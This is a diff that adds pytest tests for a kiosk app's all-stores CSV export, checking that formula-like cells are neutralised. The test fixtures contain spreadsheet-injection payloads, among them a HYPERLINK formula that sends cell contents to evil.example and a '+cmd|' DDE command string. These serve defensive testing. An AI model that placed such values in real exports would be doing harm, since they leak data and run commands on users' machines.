@@ -340,3 +340,38 @@ def test_one_utc_instant_is_two_local_days_in_two_stores(client, auth, shop, two
     assert "00:30" in client.get(f"/manager/?day=2026-03-11&store={stockholm}").text
     assert "<tbody>" not in client.get(f"/manager/?day=2026-03-10&store={stockholm}").text
     assert "<tbody>" not in client.get(f"/manager/?day=2026-03-11&store={london}").text
+
+
+def test_admins_all_stores_csv_carries_no_live_formula_and_one_charset(client, auth, shop):
+    # A manager names their store and a colleague so that a spreadsheet would run them; the
+    # admin exports every store and opens the file.
+    evil = make.store(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', code="EVL1")
+    seller = make.staff(evil, display_name="+cmd|' /C calc'!A0", username="plus")
+    add_swaps(evil, seller, [datetime(2026, 3, 10, 12, tzinfo=UTC)], [DAY])
+    Swap.update(fault_code="@SUM(1+1)").execute()
+    make.staff(shop.store, role="admin", username="root", display_name="-2+3")
+    auth.sign_in("root")
+
+    response = client.get(f"/manager/replacements.csv?day={DAY}&store=all")
+
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
+    assert len(rows) == 1
+    row = rows[0]
+    assert row["store"] == "'" + evil.name
+    assert row["staff"] == "'+cmd|' /C calc'!A0"
+    assert row["fault_code"] == "'@SUM(1+1)"
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_every_csv_cell_that_starts_like_a_formula_is_made_plain_text() -> None:
+    from kiosk.csv_export import neutralise
+
+    for cell in ("=1+2", "+1", "-1+2", "@A1", "\t=1", "\r=1"):
+        assert neutralise(cell) == "'" + cell
+    # Numbers stay numbers (a refund is never text), and ordinary text is left alone.
+    assert neutralise(-100) == -100
+    assert neutralise("Kiosk Soho") == "Kiosk Soho"
+    assert neutralise("") == ""
